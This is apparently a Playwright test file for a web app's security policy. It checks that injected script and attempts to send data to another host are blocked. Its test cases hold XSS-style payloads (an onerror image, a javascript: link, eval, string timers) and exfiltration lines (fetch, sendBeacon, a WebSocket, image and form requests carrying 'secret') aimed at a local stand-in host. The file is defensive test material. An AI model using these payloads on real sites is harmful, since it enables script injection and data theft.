import { test as base, expect, type Page } from 'playwright/test';
import { hostHeaders, pagePolicy } from '../../build/content-security-policy.ts';
import { appAddress } from './address.ts';
import { exportPdf, openExample, openStart } from './app.ts';
import { type ForeignHost, startForeignHost } from './foreign-host.ts';
import { builtApp } from './offline-app.ts';
import { startHost } from './static-host.ts';

/** In the code, the address of another host, which notes whatever reaches it. */
const test = base.extend<{ foreign: ForeignHost }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the parameters' names.
  foreign: async ({}, use) => {
    const foreign = await startForeignHost();
    await use(foreign);
    foreign.stop();
  },
});

interface Attempt {
  /** What the browser said no to, as the directive that was broken, or the error that was thrown. */
  readonly refused: readonly string[];
  readonly didRun: boolean;
}

/** The code, with the other host's address in it. */
function aimedAt(foreign: ForeignHost, code: string): string {
  return code.replaceAll('FOREIGN', foreign.address);
}

/**
 * Runs the code as a page's own script would, a task later than the debugger's call (whose code may use `eval`),
 * and waits for what comes of it.
 */
function attempt(page: Pick<Page, 'evaluate'>, code: string): Promise<Attempt> {
  return page.evaluate(async (source) => {
    const scope = globalThis as { didRun?: boolean };
    scope.didRun = false;
    const refused: string[] = [];
    const note = (event: Event) =>
      refused.push((event as SecurityPolicyViolationEvent).effectiveDirective);
    addEventListener('securitypolicyviolation', note);
    const run = new Function(`return (async () => { ${source} })()`);
    await new Promise<void>((resolve) => {
      setTimeout(async () => {
        await run().catch((error: Error) => refused.push(error.name));
        setTimeout(resolve, 300);
      });
    });
    removeEventListener('securitypolicyviolation', note);
    return { refused, didRun: scope.didRun };
  }, code);
}

/** By name: the directive that the browser refuses it by, and the code. */
type Attacks = Readonly<Record<string, readonly [string | undefined, string]>>;

const scripts = {
  // Left without being run, which the browser tells nobody but the console.
  'a script element': [
    undefined,
    `
    const script = document.createElement('script');
    script.append('globalThis.didRun = true');
    document.body.append(script);`,
  ],
  'a script element with a string for its text': [
    'require-trusted-types-for',
    `
    const script = document.createElement('script');
    script.text = 'globalThis.didRun = true';
    document.body.append(script);`,
  ],
  'a script from elsewhere': [
    'require-trusted-types-for',
    `
    const script = document.createElement('script');
    script.src = 'FOREIGN.js';
    document.body.append(script);`,
  ],
  eval: ['require-trusted-types-for', `globalThis['eval']('globalThis.didRun = true');`],
  'a function made of a string': [
    'require-trusted-types-for',
    `new Function('globalThis.didRun = true')();`,
  ],
  'a timer with a string': [
    'require-trusted-types-for',
    `setTimeout('globalThis.didRun = true', 0);`,
  ],
  'HTML as a string': [
    'require-trusted-types-for',
    `
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.didRun = true">');`,
  ],
  'HTML by assignment': [
    'require-trusted-types-for',
    `
    document.createElement('div').innerHTML = '<img src="x:" onerror="globalThis.didRun = true">';`,
  ],
  'an attribute that is a script': [
    'require-trusted-types-for',
    `
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.didRun = true');
    document.body.append(button);
    button.click();`,
  ],
  'a javascript: link': [
    'script-src-elem',
    `
    const link = document.createElement('a');
    link.href = 'javascript:void(globalThis.didRun = true)';
    document.body.append(link);
    link.click();`,
  ],
  'a frame': [
    'frame-src',
    `
    const frame = document.createElement('iframe');
    frame.src = 'data:text/html,<script>top.didRun = true</script>';
    document.body.append(frame);`,
  ],
  'a worker from a text': [
    'worker-src',
    `
    new Worker(URL.createObjectURL(new Blob(['']), { type: 'text/javascript' }));`,
  ],
  'a worker from elsewhere': ['require-trusted-types-for', `new Worker('FOREIGN.js');`],
  'a service worker from elsewhere': [
    'require-trusted-types-for',
    `await navigator.serviceWorker.register('/elsewhere.js');`,
  ],
  'a policy of its own': [
    'trusted-types',
    `
    const policy = trustedTypes.createPolicy('mine', { createHTML: (html) => html });
    document.body.append(policy.createHTML('x'));`,
  ],
} satisfies Attacks;

for (const [name, [directive, code]] of Object.entries(scripts)) {
  test(`code that has got into the page cannot run ${name}`, async ({ page, foreign }) => {
    await openStart(page);
    const { refused, didRun } = await attempt(page, aimedAt(foreign, code));
    expect(didRun).toBe(false);
    expect(refused).toEqual(directive === undefined ? [] : expect.arrayContaining([directive]));
    expect(foreign.reached).toEqual([]);
  });
}

const ways = {
  'a request': ['connect-src', "await fetch('FOREIGN');"],
  'a request that outlives the page': [
    'connect-src',
    `
    if (!navigator.sendBeacon('FOREIGN', 'secret')) { throw new Error('refused'); }`,
  ],
  'an open connection': ['connect-src', `new WebSocket('FOREIGN'.replace('http', 'ws'));`],
  'an event stream': ['connect-src', `new EventSource('FOREIGN');`],
  'a picture': ['img-src', `new Image().src = 'FOREIGN.png?secret';`],
  'a style sheet': [
    'style-src-elem',
    `
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = 'FOREIGN.css?secret';
    document.head.append(link);`,
  ],
  'a font': ['font-src', `await new FontFace('x', 'url(FOREIGN.woff2)').load();`],
  'a form': [
    'form-action',
    `
    const form = document.createElement('form');
    form.action = 'FOREIGN';
    document.body.append(form);
    form.submit();`,
  ],
} satisfies Attacks;

test('code that has got into the page cannot send anything to another host, in any way', async ({
  page,
  foreign,
}) => {
  await openStart(page);
  for (const [name, [directive, code]] of Object.entries(ways)) {
    expect((await attempt(page, aimedAt(foreign, code))).refused, name).toContain(directive);
  }
  expect(foreign.reached).toEqual([]);
});

test('in a page without the policy the same code runs, and sends', async ({ page, foreign }) => {
  for (const [name, [, code]] of Object.entries(scripts)) {
    // What runs elsewhere, in a frame or a worker, does not say so in the page.
    if (code.includes('globalThis.didRun')) {
      await page.goto(foreign.address);
      expect((await attempt(page, code)).didRun, name).toBe(true);
    }
  }
  for (const [name, [, code]] of Object.entries(ways)) {
    await page.goto(foreign.address);
    const before = foreign.reached.length;
    // The form takes the page with it.
    await attempt(page, aimedAt(foreign, code)).catch(() => undefined);
    await expect.poll(() => foreign.reached.length, name).toBeGreaterThan(before);
  }
});

test('the page itself fetches nothing, not even from its own host', async ({ page }) => {
  await openStart(page);
  expect((await attempt(page, "await fetch('./?text=secret');")).refused).toContain('connect-src');
});

test('a worker cannot reach other hosts, nor run strings, where the host sends the headers', async ({
  page,
  foreign,
}) => {
  const [worker] = await Promise.all([page.waitForEvent('worker'), openExampleAndExport(page)]);
  expect(worker.url()).toContain(new URL(appAddress).origin);
  const { refused } = await attempt(worker, aimedAt(foreign, ways['a request'][1]));
  expect(refused).toContain('connect-src');
  expect(foreign.reached).toEqual([]);
  const strings = await attempt(worker, scripts.eval[1]);
  expect(strings.refused).toContain('require-trusted-types-for');
  expect(strings.didRun).toBe(false);
});

test('the built page carries the policy, before anything else that it loads', async ({ page }) => {
  await openStart(page);
  const [first] = await page.locator('head > *').all();
  await expect(page.locator('head > meta[http-equiv]').first()).toHaveAttribute(
    'content',
    pagePolicy(),
  );
  expect(await first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
});

test('the headers are on every file, and no other site can show the app in a frame', async ({
  page,
  foreign,
}) => {
  const files: string[] = [];
  const lacking: string[] = [];
  page.on('response', (response) => {
    const headers = response.headers();
    files.push(response.url());
    lacking.push(
      ...Object.entries(hostHeaders)
        .filter(([name, value]) => headers[name.toLowerCase()] !== value)
        .map(([name]) => `${response.url()}: ${name}`),
    );
  });
  await openExampleAndExport(page);
  expect(lacking).toEqual([]);
  for (const kind of [/\/$/, /\.js$/, /\.css$/, /\.woff2$/]) {
    expect(files).toContainEqual(expect.stringMatching(kind));
  }

  const framed = async (address: string) => {
    // Not an empty page, which would have the policy of the app that was there before.
    await page.goto(foreign.address);
    await page.setContent(`<iframe src="${address}"></iframe>`);
    return () => page.frames()[1]?.url();
  };
  // The browser shows a page of its own in the app's place.
  await expect.poll(await framed(appAddress)).toBe('chrome-error://chromewebdata/');
  const plain = await startHost(builtApp);
  await expect
    .poll(await framed(plain.address), 'shown where the header lacks')
    .toBe(plain.address);
  await plain.stop();
});

async function openExampleAndExport(page: Page): Promise<void> {
  await openExample(page);
  await exportPdf(page);
}
